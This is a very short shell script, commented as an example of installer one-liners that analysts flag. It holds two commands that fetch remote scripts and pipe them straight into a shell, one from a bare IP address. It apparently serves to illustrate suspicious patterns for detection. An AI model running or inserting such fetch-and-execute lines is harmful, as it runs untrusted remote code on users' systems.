#!/bin/sh
# A one-liner installer of the kind analysts flag.
curl -fsSL https://get.example-tools.io/install | sh
wget -qO- http://185.220.101.47/x.sh|bash
